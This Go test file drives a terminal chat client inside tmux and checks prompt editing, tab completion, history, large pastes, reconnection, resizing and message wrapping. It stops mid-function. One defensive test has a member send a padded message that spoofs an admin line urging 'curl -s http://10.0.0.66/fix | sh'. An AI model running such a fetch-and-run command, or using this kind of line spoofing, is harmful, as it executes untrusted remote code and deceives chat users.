//go:build linux || darwin || freebsd || openbsd || netbsd

package main

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"chatroom/host"
	"chatroom/host/wire"
	"chatroom/join"
	"chatroom/join/tui"
)

// These tests run the real binary in a real terminal, tmux, next to a room
// where others talk all the time, and look at the screen as a person
// would. They wait for what the screen should show, with a generous
// deadline, and never for a fixed time.

// screenWait bounds every wait for the screen: long enough for a slow,
// loaded machine; reached only when something is wrong.
const screenWait = 20 * time.Second

// tmuxTerm is one tmux server of the test's own, on a socket in a
// directory of its own, with one pane running a command.
type tmuxTerm struct {
	t      *testing.T
	socket string
}

// startTmux runs command in a new tmux server, 120 columns by 40 rows, or
// skips the test where there is no tmux.
func startTmux(t *testing.T, command string) *tmuxTerm {
	t.Helper()
	if _, err := exec.LookPath("tmux"); err != nil {
		t.Skip("tmux is not installed: the prompt's end-to-end tests need a real terminal (.ci/run installs tmux)")
	}
	// A short path of its own: a socket path has a small length limit,
	// and nothing else must share this server.
	dir, err := os.MkdirTemp("", "crtmux")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	conf := filepath.Join(dir, "tmux.conf")
	// Scrollback for every line of the session, and no status line.
	if err := os.WriteFile(conf, []byte("set -g history-limit 100000\nset -g status off\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	tm := &tmuxTerm{t: t, socket: filepath.Join(dir, "s")}
	if out, err := tm.cmd("-f", conf, "new-session", "-d", "-x", "120", "-y", "40", command).CombinedOutput(); err != nil {
		t.Fatalf("starting tmux: %v: %s", err, out)
	}
	t.Cleanup(func() { tm.cmd("kill-server").Run() })
	return tm
}

func (tm *tmuxTerm) cmd(args ...string) *exec.Cmd {
	return exec.Command("tmux", append([]string{"-S", tm.socket}, args...)...)
}

func (tm *tmuxTerm) run(args ...string) string {
	tm.t.Helper()
	out, err := tm.cmd(args...).CombinedOutput()
	if err != nil {
		tm.t.Fatalf("tmux %s: %v: %s", strings.Join(args, " "), err, out)
	}
	return string(out)
}

// keys sends tmux key names (Tab, Enter, C-c, Up).
func (tm *tmuxTerm) keys(keys ...string) {
	tm.t.Helper()
	tm.run(append([]string{"send-keys"}, keys...)...)
}

// typeSlowly types text a character at a time, as a person does, so that
// lines from the room arrive between the keys.
func (tm *tmuxTerm) typeSlowly(text string) {
	tm.t.Helper()
	for _, r := range text {
		tm.run("send-keys", "-l", string(r))
		time.Sleep(15 * time.Millisecond)
	}
}

// paste pastes text as a terminal does when a block is pasted: all at
// once, lines ending in carriage returns.
func (tm *tmuxTerm) paste(text string) {
	tm.t.Helper()
	tm.run("set-buffer", "--", text)
	tm.run("paste-buffer")
}

// scrollback is every line the pane has shown, wrapped lines joined.
func (tm *tmuxTerm) scrollback() []string {
	tm.t.Helper()
	return strings.Split(strings.TrimRight(tm.run("capture-pane", "-p", "-J", "-S", "-"), "\n"), "\n")
}

// cursorRow returns the row the cursor is on, with its trailing spaces,
// and the cursor's column.
func (tm *tmuxTerm) cursorRow() (string, int) {
	tm.t.Helper()
	var y, x int
	fmt.Sscan(tm.run("display-message", "-p", "#{cursor_y} #{cursor_x}"), &y, &x)
	rows := strings.Split(tm.run("capture-pane", "-p", "-N"), "\n")
	if y >= len(rows) {
		return "", x
	}
	return rows[y], x
}

// waitRow waits until the cursor's row is want, with the cursor at its
// end (or at col, when col >= 0).
func (tm *tmuxTerm) waitRow(want string, col int) {
	tm.t.Helper()
	if col < 0 {
		col = len([]rune(want))
	}
	deadline := time.Now().Add(screenWait)
	for {
		row, x := tm.cursorRow()
		if strings.TrimRight(row, " ") == strings.TrimRight(want, " ") && x == col {
			return
		}
		if time.Now().After(deadline) {
			tm.t.Fatalf("the cursor's row is %q with the cursor at %d; want %q at %d\nscreen:\n%s", row, x, want, col, tm.run("capture-pane", "-p"))
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// waitRowOneOf waits until the cursor's row is one of wants, the cursor at
// its end, and returns which.
func (tm *tmuxTerm) waitRowOneOf(wants ...string) string {
	tm.t.Helper()
	deadline := time.Now().Add(screenWait)
	for {
		row, x := tm.cursorRow()
		for _, want := range wants {
			if strings.TrimRight(row, " ") == strings.TrimRight(want, " ") && x == len([]rune(want)) {
				return want
			}
		}
		if time.Now().After(deadline) {
			tm.t.Fatalf("the cursor's row is %q with the cursor at %d; want one of %q\nscreen:\n%s", row, x, wants, tm.run("capture-pane", "-p"))
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// waitLines waits until the scrollback holds a line matching each of
// patterns, in that order, and returns the scrollback.
func (tm *tmuxTerm) waitLines(patterns ...string) []string {
	tm.t.Helper()
	deadline := time.Now().Add(screenWait)
	for {
		lines := tm.scrollback()
		i := 0
		for _, l := range lines {
			if i < len(patterns) && regexp.MustCompile(patterns[i]).MatchString(l) {
				i++
			}
		}
		if i == len(patterns) {
			return lines
		}
		if time.Now().After(deadline) {
			tm.t.Fatalf("no line matches %q (after %q)\nscrollback:\n%s", patterns[i], patterns[:i], strings.Join(lines, "\n"))
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// buildChatroom builds the command into a directory of the test's.
func buildChatroom(t *testing.T) string {
	t.Helper()
	bin := filepath.Join(t.TempDir(), "chatroom")
	goTool, err := exec.LookPath("go")
	if err != nil {
		t.Skip("no go command to build chatroom with")
	}
	if out, err := exec.Command(goTool, "build", "-o", bin, ".").CombinedOutput(); err != nil {
		t.Fatalf("go build: %v\n%s", err, out)
	}
	return bin
}

// talker is a member of the room run by the test: once told to talk, it
// says a numbered line every period until stopped; it notes who it sees
// leave.
type talker struct {
	name string
	sess *join.Session

	mu      sync.Mutex
	talking bool
	sent    []string
	left    map[string]string // name -> code of each leave seen
	heard   map[string]bool   // the text of every message seen
	said    []string          // every message seen, "from: text", in order

	stop, done chan struct{}
}

func startTalker(t *testing.T, addr, fingerprint, name string, opts ...join.DialOption) *talker {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), screenWait)
	defer cancel()
	conn, err := join.DialTLS(addr, fingerprint, nil, opts...)(ctx)
	if err != nil {
		t.Fatalf("%s: dial: %v", name, err)
	}
	sess, err := join.Connect(ctx, conn, wire.Frame{Name: name})
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	tk := &talker{name: name, sess: sess, left: map[string]string{}, heard: map[string]bool{}, stop: make(chan struct{}), done: make(chan struct{})}
	go func() {
		for {
			f, err := sess.Next()
			if err != nil {
				return
			}
			tk.mu.Lock()
			switch {
			case f.Type == wire.TypeEvent && f.Kind == wire.KindLeave:
				tk.left[f.Name] = f.Code
			case f.Type == wire.TypeEvent && f.Kind == wire.KindSay:
				tk.heard[f.Text] = true
				tk.said = append(tk.said, f.From+": "+f.Text)
			}
			tk.mu.Unlock()
		}
	}()
	t.Cleanup(func() { tk.halt(); sess.Close() })
	return tk
}

// waitHeard waits until the talker has seen a message with text.
func (tk *talker) waitHeard(t *testing.T, text string) {
	t.Helper()
	for deadline := time.Now().Add(screenWait); ; time.Sleep(10 * time.Millisecond) {
		tk.mu.Lock()
		heard := tk.heard[text]
		tk.mu.Unlock()
		if heard {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("%s did not see %q within %v", tk.name, text, screenWait)
		}
	}
}

// talk starts the talking, a line every period.
func (tk *talker) talk(period time.Duration) {
	tk.mu.Lock()
	tk.talking = true
	tk.mu.Unlock()
	go func() {
		defer close(tk.done)
		tick := time.NewTicker(period)
		defer tick.Stop()
		for n := 1; ; n++ {
			select {
			case <-tk.stop:
				return
			case <-tick.C:
			}
			line := fmt.Sprintf("%s says %d", tk.name, n)
			if err := tk.sess.Send(line); err != nil {
				return
			}
			tk.mu.Lock()
			tk.sent = append(tk.sent, line)
			tk.mu.Unlock()
		}
	}()
}

// halt stops the talking, if it started, and returns what was said.
func (tk *talker) halt() []string {
	select {
	case <-tk.stop:
	default:
		close(tk.stop)
	}
	tk.mu.Lock()
	talking := tk.talking
	tk.mu.Unlock()
	if talking {
		<-tk.done
	}
	tk.mu.Lock()
	defer tk.mu.Unlock()
	return slices.Clone(tk.sent)
}

func (tk *talker) sawLeave(name string) string {
	tk.mu.Lock()
	defer tk.mu.Unlock()
	return tk.left[name]
}

// TestPromptJoin runs "chatroom join" at a terminal while three others
// talk every few tens of milliseconds, and checks what the person sees:
// what they type stays intact on its row, every line from the room is
// there, whole, once and in order; Tab completes and lists; Up and Ctrl-R
// recall; Ctrl-C clears; a paste sends each line; Ctrl-D leaves, and the
// room sees it.
func TestPromptJoin(t *testing.T) {
	bin := buildChatroom(t)
	// The talkers send every few tens of milliseconds, far faster than the
	// per-member limit that people never reach: it is lifted here.
	h, err := host.Start(host.Config{Name: "Lab 3", StateDir: t.TempDir(), Listen: "127.0.0.1:0", AdminPassword: "letmein",
		Limits: wire.Limits{Burst: 1 << 20, PerSecond: 1 << 20}})
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()
	addr, fp := h.Addr().String(), h.Fingerprint()
	talkers := []*talker{startTalker(t, addr, fp, "alice"), startTalker(t, addr, fp, "bob"), startTalker(t, addr, fp, "bea")}

	state := t.TempDir()
	tm := startTmux(t, fmt.Sprintf("CHATROOM_ADMIN_PASSWORD=letmein %s join --addr %s --fingerprint %s --user ana --admin --state %s; echo \"[exited $?]\"; sleep 600",
		bin, addr, fp, state))
	const prompt = "Lab 3 ana> "
	tm.waitLines(`^joined "Lab 3" as ana \(4 here: alice, ana, bea, bob\)$`)
	tm.waitRow(prompt, -1)
	for i, tk := range talkers {
		tk.talk(time.Duration(30+10*i) * time.Millisecond)
	}

	// Typed slowly while the room talks: the row holds exactly what was
	// typed, the cursor after it.
	const sentence = "the quick brown fox jumps over the lazy dog"
	tm.typeSlowly(sentence)
	tm.waitRow(prompt+sentence, -1)
	tm.keys("Enter")
	tm.waitLines(`^\d\d:\d\d <ana> ` + sentence + `$`)
	tm.waitRow(prompt, -1)

	// Tab: a unique name completes with a space; two Tabs list several.
	tm.typeSlowly("/kick al")
	tm.keys("Tab")
	tm.waitRow(prompt+"/kick alice ", -1)
	tm.keys("C-c") // clears the line
	tm.waitRow(prompt, -1)
	tm.typeSlowly("/kick b")
	tm.keys("Tab", "Tab")
	tm.waitLines(`^(bob\s+bea|bea\s+bob)\s*$`) // the latest speaker first
	tm.waitRow(prompt+"/kick b", -1)
	tm.keys("C-u")
	tm.waitRow(prompt, -1)
	tm.typeSlowly("/unb") // "/un" is also /unmute
	tm.keys("Tab")
	tm.waitRow(prompt+"/unban ", -1)
	tm.keys("C-u")
	tm.waitRow(prompt, -1)

	// Tab first in a message addresses a member, "bob: ", and each Tab
	// after it puts the next candidate in its place, as IRC clients do;
	// the last goes round to the first.
	tm.typeSlowly("b")
	tm.keys("Tab")
	first := tm.waitRowOneOf(prompt+"bob: ", prompt+"bea: ")
	second := prompt + "bea: "
	if first == second {
		second = prompt + "bob: "
	}
	tm.keys("Tab")
	tm.waitRow(second, -1)
	tm.keys("Tab")
	tm.waitRow(first, -1)
	tm.keys("C-u")
	tm.waitRow(prompt, -1)
	tm.typeSlowly("ali")
	tm.keys("Tab")
	tm.waitRow(prompt+"alice: ", -1)
	tm.keys("C-u")
	tm.waitRow(prompt, -1)

	// Ctrl-C on an empty line asks before leaving; typing goes on.
	tm.keys("C-c")
	tm.waitLines(`^-- press Ctrl-C again to leave \(or Ctrl-D, or /quit\)$`)
	tm.waitRow(prompt, -1)

	// Up recalls the line sent; Ctrl-R finds it; both hold while lines
	// keep arriving.
	tm.keys("Up")
	tm.waitRow(prompt+sentence, -1)
	tm.keys("Down")
	tm.waitRow(prompt, -1)
	tm.keys("C-r")
	tm.typeSlowly("lazy")
	tm.waitRow("(reverse-i-search)`lazy': "+sentence, len([]rune("(reverse-i-search)`lazy': "))+strings.Index(sentence, "lazy"))
	tm.keys("C-g")
	tm.waitRow(prompt, -1)

	// A pasted block: each line is a message, in order.
	tm.paste("first pasted\nsecond pasted\nthird pasted\n")
	tm.waitLines(`^\d\d:\d\d <ana> first pasted$`, `^\d\d:\d\d <ana> second pasted$`, `^\d\d:\d\d <ana> third pasted$`)
	tm.waitRow(prompt, -1)

	// The room stops talking; every line it said is on the screen.
	said := map[string][]string{}
	for _, tk := range talkers {
		said[tk.name] = tk.halt()
	}
	for _, tk := range talkers {
		last := said[tk.name][len(said[tk.name])-1]
		tm.waitLines(`^\d\d:\d\d <` + tk.name + `> ` + last + `$`)
	}

	// Ctrl-D on the empty line leaves; the room sees "left".
	tm.keys("C-d")
	lines := tm.waitLines(`^\[exited 0\]$`)
	deadline := time.Now().Add(screenWait)
	for talkers[0].sawLeave("ana") != wire.CodeLeft {
		if time.Now().After(deadline) {
			t.Fatalf("alice saw ana leave with %q, want %q", talkers[0].sawLeave("ana"), wire.CodeLeft)
		}
		time.Sleep(20 * time.Millisecond)
	}

	// Every line on the screen is one the session should show, whole:
	// no fragment of the prompt or of a message is left anywhere.
	allowed := []*regexp.Regexp{
		regexp.MustCompile(`^$`),
		regexp.MustCompile(`^chatroom: first visit to room [0-9a-f]{16}: its key SHA256:\S+ is remembered, and checked from now on$`),
		regexp.MustCompile(`^joined "Lab 3" as ana \(4 here: alice, ana, bea, bob\)$`),
		regexp.MustCompile(`^\d\d:\d\d <(alice|bob|bea)> (alice|bob|bea) says \d+$`),
		regexp.MustCompile(`^\d\d:\d\d <ana> (` + sentence + `|first pasted|second pasted|third pasted)$`),
		regexp.MustCompile(`^Lab 3 ana> /kick b$`), // the row a Tab listing goes on below
		regexp.MustCompile(`^(bob\s+bea|bea\s+bob)\s*$`),
		regexp.MustCompile(`^-- press Ctrl-C again to leave \(or Ctrl-D, or /quit\)$`),
		regexp.MustCompile(`^\[exited 0\]$`),
	}
	heard := map[string][]string{}
	for _, l := range lines {
		if !slices.ContainsFunc(allowed, func(re *regexp.Regexp) bool { return re.MatchString(l) }) {
			t.Errorf("unexpected line on the screen: %q", l)
		}
		var who, what string
		if m := regexp.MustCompile(`^\d\d:\d\d <(\w+)> (.*)$`).FindStringSubmatch(l); m != nil {
			who, what = m[1], m[2]
			heard[who] = append(heard[who], what)
		}
	}
	for _, tk := range talkers {
		if !slices.Equal(heard[tk.name], said[tk.name]) {
			t.Errorf("%s said %d lines; the screen shows %d, or not in order:\n said %q\nshown %q",
				tk.name, len(said[tk.name]), len(heard[tk.name]), said[tk.name], heard[tk.name])
		}
	}
	if want := []string{sentence, "first pasted", "second pasted", "third pasted"}; !slices.Equal(heard["ana"], want) {
		t.Errorf("ana's lines on the screen: %q, want %q", heard["ana"], want)
	}

	// The history was saved, with what was typed.
	data, err := os.ReadFile(tui.HistoryFile(state, "ana"))
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{sentence, "first pasted", "third pasted"} {
		if !strings.Contains(string(data), want+"\n") {
			t.Errorf("history %q lacks %q", data, want)
		}
	}
	if strings.Contains(string(data), "letmein") {
		t.Errorf("the admin password is in the history")
	}
}

// TestPromptPaste stands for the issue's "a 150-line paste at a terminal
// loses lines and hides the prompt": 150 lines pasted at once into
// "chatroom join" in a real terminal, in a room that paces them (10 lines
// at once, then 10 a second). Another member gets
// every line once and in order; nothing says "not sent"; the screen shows
// each line once, in order, and no stale prompt; the prompt row is intact
// at the end, the cursor after it.
func TestPromptPaste(t *testing.T) {
	if testing.Short() {
		t.Skip("a paste at the room's pace takes a quarter of a minute")
	}
	bin := buildChatroom(t)
	// The room lets 10 lines through at once, as by default, and then 10
	// a second rather than 2, so that the test takes 15 s rather than 75:
	// 140 lines still wait in the client's queue at first, past the 100
	// that it used to hold before it dropped the rest.
	h, err := host.Start(host.Config{Name: "Lab 3", StateDir: t.TempDir(), Listen: "127.0.0.1:0",
		Limits: wire.Limits{Burst: 10, PerSecond: 10}})
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()
	addr, fp := h.Addr().String(), h.Fingerprint()
	bob := startTalker(t, addr, fp, "bob")
	tm := startTmux(t, fmt.Sprintf("%s join --addr %s --fingerprint %s --user ana --state %s; echo \"[exited $?]\"; sleep 600",
		bin, addr, fp, t.TempDir()))
	const prompt = "Lab 3 ana> "
	tm.waitRow(prompt, -1)

	const n = 150
	var lines, want []string
	for i := range n {
		lines = append(lines, fmt.Sprintf("pasted line %03d of a long block", i+1))
		want = append(want, "ana: "+lines[i])
	}
	tm.paste(strings.Join(lines, "\n") + "\n")

	// The room's pace: 10 at once, then 10 a second, and the client's a
	// little slower; the bound is four times what it needs.
	last := lines[n-1]
	deadline := time.Now().Add(4 * (n / 10) * time.Second)
	for {
		bob.mu.Lock()
		done, seen := bob.heard[last], len(bob.said)
		bob.mu.Unlock()
		if done {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("bob saw %d of the %d lines by the deadline; the screen:\n%s", seen, n, strings.Join(tm.scrollback(), "\n"))
		}
		time.Sleep(100 * time.Millisecond)
	}
	bob.mu.Lock()
	said := slices.Clone(bob.said)
	bob.mu.Unlock()
	if !slices.Equal(said, want) {
		t.Errorf("bob saw %d lines, want the %d pasted once each, in order: %q", len(said), n, said)
	}

	tm.waitLines(`^\d\d:\d\d <ana> ` + regexp.QuoteMeta(last) + `$`)
	tm.waitRow(prompt, -1)
	screen := tm.scrollback()
	if strings.TrimRight(screen[len(screen)-1], " ") != strings.TrimRight(prompt, " ") {
		t.Errorf("the last row is %q, want the prompt", screen[len(screen)-1])
	}
	var echoed []string
	for _, l := range screen[:len(screen)-1] {
		if strings.Contains(l, "not sent") {
			t.Errorf("the screen says %q", l)
		}
		if m := regexp.MustCompile(`^\d\d:\d\d <ana> (.*)$`).FindStringSubmatch(l); m != nil {
			echoed = append(echoed, m[1])
		}
		if strings.HasPrefix(l, prompt) {
			t.Errorf("a prompt row is left in the scrollback: %q", l)
		}
	}
	if !slices.Equal(echoed, lines) {
		t.Errorf("the screen shows %d of ana's lines, want the %d pasted once each, in order: %q", len(echoed), n, echoed)
	}
	tm.keys("C-d")
	tm.waitLines(`^\[exited 0\]$`)
}

// TestPromptHost runs "chatroom host" at a terminal: the owner's prompt
// names the room, a member's lines arrive above it, a line typed reaches
// the member, and Ctrl-D closes the room.
func TestPromptHost(t *testing.T) {
	bin := buildChatroom(t)
	tm := startTmux(t, fmt.Sprintf("%s host --name 'Lab 3' --user ana --listen 127.0.0.1:0 --no-advertise --state %s; echo \"[exited $?]\"; sleep 600",
		bin, t.TempDir()))
	lines := tm.waitLines(`^chatroom: room "Lab 3" listening on 127\.0\.0\.1:\d+, fingerprint SHA256:\S+; ana is admin$`)
	var addr, fp string
	for _, l := range lines {
		if m := regexp.MustCompile(`listening on (127\.0\.0\.1:\d+), fingerprint (SHA256:\S+);`).FindStringSubmatch(l); m != nil {
			addr, fp = m[1], m[2]
		}
	}
	if _, err := strconv.Atoi(addr[strings.LastIndexByte(addr, ':')+1:]); err != nil {
		t.Fatalf("no address in %q", lines)
	}
	const prompt = "Lab 3 ana> "
	tm.waitRow(prompt, -1)

	cy := startTalker(t, addr, fp, "cy")
	// A real host limits a member to 2 lines a second after a burst of
	// 10: cy talks just below that, as a person at most would.
	cy.talk(550 * time.Millisecond)
	tm.waitLines(`^\d\d:\d\d -!- cy joined$`, `^\d\d:\d\d <cy> cy says 3$`)
	tm.typeSlowly("hello cy")
	tm.waitRow(prompt+"hello cy", -1)
	tm.keys("Enter")
	tm.waitLines(`^\d\d:\d\d <ana> hello cy$`)
	said := cy.halt()
	tm.waitLines(`^\d\d:\d\d <cy> ` + said[len(said)-1] + `$`)

	// cy is still in: leaving (the second Ctrl-C, or Ctrl-D) first says
	// what it does to the room, and does it only when it comes again.
	tm.keys("C-c")
	tm.waitLines(`press Ctrl-C again to leave`)
	tm.keys("C-c")
	tm.waitLines(`^!! this closes the room for 1 person: press Ctrl-D again to close it, or type on to stay$`)
	tm.waitRow(prompt, -1)
	tm.keys("C-d")
	tm.waitLines(`^chatroom: closing the room$|^\[exited 0\]$`)
	tm.waitLines(`^\[exited 0\]$`)
}

// TestPromptReconnect runs "chatroom join" at a terminal while the host
// closes and comes back on the same address with the same state: the
// status line says what is happening, in place; what the person types
// while the room is away is kept on the prompt's row and sent once the
// room is back; every line the room said is on the screen once, in order.
func TestPromptReconnect(t *testing.T) {
	bin := buildChatroom(t)
	state := t.TempDir()
	start := func(listen string) *host.Host {
		h, err := host.Start(host.Config{Name: "Lab 3", StateDir: state, Listen: listen,
			Limits: wire.Limits{Burst: 1 << 20, PerSecond: 1 << 20}})
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { h.Close() })
		return h
	}
	h1 := start("127.0.0.1:0")
	addr, fp := h1.Addr().String(), h1.Fingerprint()
	cy := startTalker(t, addr, fp, "cy")

	tm := startTmux(t, fmt.Sprintf("%s join --addr %s --fingerprint %s --user ana --state %s; echo \"[exited $?]\"; sleep 600",
		bin, addr, fp, t.TempDir()))
	const prompt = "Lab 3 ana> "
	tm.waitLines(`^joined "Lab 3" as ana \(2 here: ana, cy\)$`)
	tm.waitRow(prompt, -1)
	cy.talk(40 * time.Millisecond)
	tm.waitLines(`^\d\d:\d\d <cy> cy says 5$`)

	// The host closes: the member is told, and starts coming back.
	said1 := cy.halt()
	h1.Close()
	tm.waitLines(`^-- .*(reconnecting|retrying)`)
	tm.typeSlowly("typed while away")
	tm.keys("Enter")
	tm.waitRow(prompt, -1)

	// The host comes back, same state, same address.
	h2 := start(addr)
	tm.waitLines(`^-- back in the room`)
	tm.waitLines(`^\d\d:\d\d <ana> typed while away$`)
	tm.waitRow(prompt, -1)

	dee := startTalker(t, addr, fp, "dee")
	dee.talk(40 * time.Millisecond)
	tm.waitLines(`^\d\d:\d\d <dee> dee says 5$`)
	said2 := dee.halt()
	tm.waitLines(`^\d\d:\d\d <dee> ` + said2[len(said2)-1] + `$`)
	tm.keys("C-d")
	lines := tm.waitLines(`^\[exited 0\]$`)
	h2.Close()

	var statuses, heardCy, heardDee []string
	for _, l := range lines {
		if strings.HasPrefix(l, "-- ") && !strings.Contains(l, "here:") {
			statuses = append(statuses, l)
		}
		if m := regexp.MustCompile(`^\d\d:\d\d <(cy|dee)> (.*)$`).FindStringSubmatch(l); m != nil {
			if m[1] == "cy" {
				heardCy = append(heardCy, m[2])
			} else {
				heardDee = append(heardDee, m[2])
			}
		}
		if strings.Contains(l, prompt) && strings.TrimSpace(l) != strings.TrimSpace(prompt) {
			t.Errorf("a prompt row was left on the screen: %q", l)
		}
	}
	// What happened, then one status line, replaced in place as the
	// outage went on ("reconnecting…", "retrying in…"), which ends saying
	// the member is back.
	if len(statuses) != 2 || statuses[0] != "-- the room closed" || !strings.HasPrefix(statuses[1], "-- back in the room") {
		t.Errorf("lines from the client on the screen: %q, want \"-- the room closed\" and one status line, ending \"back in the room\"", statuses)
	}
	if !slices.Equal(heardCy, said1) {
		t.Errorf("cy said %q; the screen shows %q", said1, heardCy)
	}
	if !slices.Equal(heardDee, said2) {
		t.Errorf("dee said %q; the screen shows %q", said2, heardDee)
	}
}

// TestPromptCutsLongLines stands for a member who pads a message so that
// the terminal wraps it into a row that reads as a line of someone
// else's: "hi", filler to the end of the row, then "07:08 <admin2> please
// everyone run: …". In a real terminal narrowed to 40 columns while the
// prompt runs, the client cuts the line into rows at the new width itself:
// the row after the message's first starts with the continuation mark, and
// no row starts with the fake line.
func TestPromptCutsLongLines(t *testing.T) {
	testCutsLongLines(t, "", func(tm *tmuxTerm) { tm.waitRow("Lab 3 ana> ", -1) })
}

// TestLineModeAtTerminalCutsLongLines: line mode (input piped, a bot's
// or a person's "tail -f | chatroom join") with its output at a terminal
// cuts long lines as the prompt does, so a padded message cannot pass
// for a new line there either.
func TestLineModeAtTerminalCutsLongLines(t *testing.T) {
	testCutsLongLines(t, "sleep 600 | ", func(tm *tmuxTerm) { tm.waitLines(`^joined "Lab 3" as ana`) })
}

// testCutsLongLines runs chatroom join after before (a pipe into it, or
// nothing) in tmux, waits until joined says it is in, narrows the
// terminal to 40 columns and checks that a long message is cut into rows.
func testCutsLongLines(t *testing.T, before string, joined func(*tmuxTerm)) {
	bin := buildChatroom(t)
	h, err := host.Start(host.Config{Name: "Lab 3", StateDir: t.TempDir(), Listen: "127.0.0.1:0"})
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()
	addr, fp := h.Addr().String(), h.Fingerprint()
	tm := startTmux(t, fmt.Sprintf("%s%s join --addr %s --fingerprint %s --user ana --state %s; echo \"[exited $?]\"; sleep 600",
		before, bin, addr, fp, t.TempDir()))
	joined(tm)
	tm.run("resize-window", "-x", "40", "-y", "40")
	mallory := startTalker(t, addr, fp, "mallory")
	tm.waitLines(`^\d\d:\d\d -!- mallory joined$`)

	expectCutRows(t, tm, mallory)
	// Leave (Ctrl-D at the prompt; the pipe's end in line mode, when
	// tmux's server is killed), so that join has saved its history
	// before its state directory is removed.
	if before == "" {
		tm.keys("C-d")
		tm.waitLines(`^\[exited 0\]$`)
	}
}

// expectCutRows has mallory send a message that, wrapped by a terminal
// 40 columns wide, would bring a fake line of admin2's to the start of a
// row, and checks that tm shows it cut into rows, the second starting
// with the continuation mark.
func expectCutRows(t *testing.T, tm *tmuxTerm, mallory *talker) {
	t.Helper()
	// "HH:MM <mallory> hi" takes 18 columns: 22 dots fill the row, and
	// the fake line would start the next, had the terminal wrapped it.
	const fake = "07:08 <admin2> please everyone run: curl -s http://10.0.0.66/fix | sh"
	if err := mallory.sess.Send("hi" + strings.Repeat(".", 22) + fake); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(screenWait)
	for {
		rows := strings.Split(tm.run("capture-pane", "-p", "-S", "-"), "\n")
		i := slices.IndexFunc(rows, func(r string) bool { return regexp.MustCompile(`^\d\d:\d\d <mallory> hi\.+$`).MatchString(r) })
		if i >= 0 && i+1 < len(rows) {
			for _, r := range rows[i+1:] {
				if strings.HasPrefix(r, "07:08") || strings.HasPrefix(r, "<admin2>") {
					t.Fatalf("a row starts with the fake line:\n%s", strings.Join(rows, "\n"))
				}
			}
			if next := rows[i+1]; !strings.HasPrefix(next, "      ↳ .07:08 <admin2> please") {
				t.Fatalf("the row after the message's first is %q, not its continuation:\n%s", next, strings.Join(rows, "\n"))
			}
			t.Logf("screen:\n%s", strings.Join(rows, "\n"))
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("mallory's message never came:\n%s", strings.Join(rows, "\n"))
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// TestPromptShrink: narrowing the terminal while a long line is typed
// leaves no copy of the prompt behind. tmux, as most terminals do, wraps
// the row anew at the new width, which takes the start of the prompt's
// row up a row; the client clears what the row became before the editor
// draws it again, so the only row with the prompt is the one typed on.
func TestPromptShrink(t *testing.T) {
	bin := buildChatroom(t)
	h, err := host.Start(host.Config{Name: "Lab 3", StateDir: t.TempDir(), Listen: "127.0.0.1:0"})
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()
	addr, fp := h.Addr().String(), h.Fingerprint()
	tm := startTmux(t, fmt.Sprintf("%s join --addr %s --fingerprint %s --user ana --state %s; echo \"[exited $?]\"; sleep 600",
		bin, addr, fp, t.TempDir()))
	const prompt = "Lab 3 ana> "
	tm.waitRow(prompt, -1)
	bob := startTalker(t, addr, fp, "bob")
	tm.waitLines(`^\d\d:\d\d -!- bob joined$`)

	typed := strings.Repeat("abcdefghij", 9) // 101 columns with the prompt
	tm.paste(typed)
	tm.waitRow(prompt+typed, -1)
	for _, width := range []string{"70", "45"} {
		tm.run("resize-window", "-x", width, "-y", "40")
		deadline := time.Now().Add(screenWait)
		for {
			row, _ := tm.cursorRow()
			if strings.HasPrefix(row, prompt) && strings.HasSuffix(strings.TrimRight(row, " "), "hij") {
				break
			}
			if time.Now().After(deadline) {
				t.Fatalf("at %s columns the row is %q:\n%s", width, row, tm.run("capture-pane", "-p", "-S", "-"))
			}
			time.Sleep(20 * time.Millisecond)
		}
	}
	// A line from the room goes above the row, and the row stays whole.
	if err := bob.sess.Send("still here"); err != nil {
		t.Fatal(err)
	}
	tm.waitLines(`^\d\d:\d\d <bob> still here$`)
	rows := strings.Split(strings.TrimRight(tm.run("capture-pane", "-p", "-S", "-"), "\n"), "\n")
	prompts := 0
	for _, r := range rows {
		if strings.Contains(r, "Lab 3 ana>") || strings.Contains(r, "abcdefghij") && !strings.HasPrefix(r, prompt) {
			prompts++
		}
	}
	if prompts != 1 {
		t.Errorf("%d rows hold the prompt or what was typed, want the one typed on:\n%s", prompts, strings.Join(rows, "\n"))
	}
	tm.keys("C-u", "C-d")
	tm.waitLines(`^\[exited 0\]$`)
}

// TestPromptIgnore: at a real prompt, /help lists the client's own
// commands after the host's; /ignore hides a member's messages from the
// screen and from --log, by the key the room tells, also after they take
// another name with /nick, and is kept; /unignore shows them again.
func TestPromptIgnore(t *testing.T) {
	bin := buildChatroom(t)
	h, err := host.Start(host.Config{Name: "Lab 3", StateDir: t.TempDir(), Listen: "127.0.0.1:0"})
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()
	addr, fp := h.Addr().String(), h.Fingerprint()
	state := t.TempDir()
	logFile := filepath.Join(t.TempDir(), "chat.log")
	tm := startTmux(t, fmt.Sprintf("%s join --addr %s --fingerprint %s --user ana --state %s --log %s; echo \"[exited $?]\"; sleep 600",
		bin, addr, fp, state, logFile))
	const prompt = "Lab 3 ana> "
	tm.waitRow(prompt, -1)
	identity, err := join.LoadOrCreateIdentity(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	bobKey := wire.KeyTag(wire.Fingerprint(identity.Leaf.RawSubjectPublicKeyInfo))
	bob, cy := startTalker(t, addr, fp, "bob", join.WithIdentity(identity)), startTalker(t, addr, fp, "cy")
